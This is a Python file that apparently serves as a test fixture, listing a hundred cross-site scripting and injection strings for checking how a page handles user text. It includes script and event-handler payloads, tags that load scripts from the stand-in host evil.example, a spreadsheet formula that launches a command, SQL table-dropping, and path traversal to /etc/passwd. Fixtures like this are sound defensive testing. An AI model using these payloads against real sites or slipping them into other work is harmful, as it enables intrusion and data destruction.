"""A hundred texts that become something else wherever a page treats text as markup."""

CALL = "window.hit=1"
STRINGS = [
    f"<script>{CALL}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<img src=x onerror={CALL}>", f"<img src=x onerror=\"{CALL}\">",
    f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>", f"<svg/onload={CALL}//", f"<body onload={CALL}>", f"<iframe src=javascript:{CALL}>",
    f"<iframe srcdoc='<script>parent.hit=1</script>'>", f"<a href=javascript:{CALL}>x</a>", f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}", f"\"><script>{CALL}</script>", f"'><script>{CALL}</script>", f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"</script><script>{CALL}</script>", f"</style><script>{CALL}</script>", f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>", f"\" onmouseover=\"{CALL}", f"' onfocus='{CALL}' autofocus='", f"` onclick={CALL} `", f"x onerror={CALL}",
    f"<input autofocus onfocus={CALL}>", f"<select autofocus onfocus={CALL}>", f"<textarea autofocus onfocus={CALL}>", f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}>", f"<video src=x onerror={CALL}>", f"<audio src=x onerror={CALL}>", f"<marquee onstart={CALL}>", f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>", f"<form action=javascript:{CALL}><input type=submit>", f"<button formaction=javascript:{CALL}>x", f"<math href=javascript:{CALL}>x</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>", f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">", f"<template><script>{CALL}</script></template>",
    f"<base href=//evil.example/>", f"<meta http-equiv=refresh content='0;url=//evil.example'>", f"<link rel=stylesheet href=//evil.example/x.css>", f"<link rel=import href=//evil.example>",
    f"<style>@import '//evil.example/x.css';</style>", f"<style>*{{background:url(//evil.example/x)}}</style>", f"<div style=\"background:url(//evil.example/x)\">", f"<p style=\"position:fixed;inset:0\">x",
    f"<img src=//evil.example/x.png>", f"<img srcset=//evil.example/x>", f"<image href=//evil.example/x>", f"<svg><image href=//evil.example/x onerror={CALL}></svg>", f"<svg><use href=//evil.example/x#a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><set onbegin={CALL} attributeName=x>", f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>", f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;", "&#60;img src=x onerror=window.hit=1&#62;", "&#x3c;script&#x3e;window.hit=1", "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e", "\\x3cimg src=x onerror=window.hit=1\\x3e",
    "%3Cscript%3Ewindow.hit%3D1%3C%2Fscript%3E", "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-", "＜script＞window.hit=1＜/script＞", "<scr<script>ipt>window.hit=1</scr</script>ipt>", "<<script>window.hit=1//<</script>",
    f"<img/src=x/onerror={CALL}>", f"<img\nsrc=x\nonerror={CALL}>", f"<img src=`x` onerror={CALL}>", f"<img src=x:x onerror\n=\n{CALL}>", f"<IMG \"\"\"><SCRIPT>{CALL}</SCRIPT>\">", f"<a href=\"jav&#x0A;ascript:{CALL}\">x</a>",
    f"<a href=\"//evil.example\" target=_blank>click me</a>", f"<a href=# onclick={CALL}>x</a>", f"<plaintext>", f"<xmp><script>{CALL}</script></xmp>", f"<!--<img src=\"--><img src=x onerror={CALL}//\">", f"<?xml version=\"1.0\"?><x onload={CALL}/>",
    "${window.hit=1}", "{{constructor.constructor('window.hit=1')()}}", "#{window.hit=1}", "<%= window.hit=1 %>", "{{7*7}}", "__proto__", "constructor", "toString", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202eevil\u202c right to left", "zero\u200bwidth\u200djoiner", "Zalgo Z̴̛͝ä̷l̸g̶ő", "🏴‍☠️ <b>bold</b>", "line\nbreak <i>x</i>", "'; DROP TABLE deliveries; --", "../../../../etc/passwd", "%00<script>window.hit=1</script>",
    f"<div onpointerenter={CALL}>x</div>", f"<dialog open onclose={CALL}><form method=dialog>", f"<slot onslotchange={CALL}>", f"<portal src=//evil.example>", f"<style onload={CALL}>", f"<link rel=preload as=script href=//evil.example onload={CALL}>",
]
